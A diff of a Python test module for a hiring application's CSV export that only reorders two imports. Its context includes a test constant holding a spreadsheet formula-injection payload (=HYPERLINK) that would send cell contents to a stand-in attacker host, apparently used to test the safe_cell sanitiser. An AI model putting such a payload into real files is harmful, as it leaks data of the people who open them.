@@ -14,8 +14,8 @@ from hireloop.audit.models import AuditEntry
 from hireloop.auth.models import UserRole
 from hireloop.exports.csv_cells import safe_cell
 from tests.factories import auth, create_job, create_staff_user, register_candidate
-from tests.web.forms import staff_page_login, web_login
 from tests.recruiter.helpers import application_in
+from tests.web.forms import staff_page_login, web_login
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
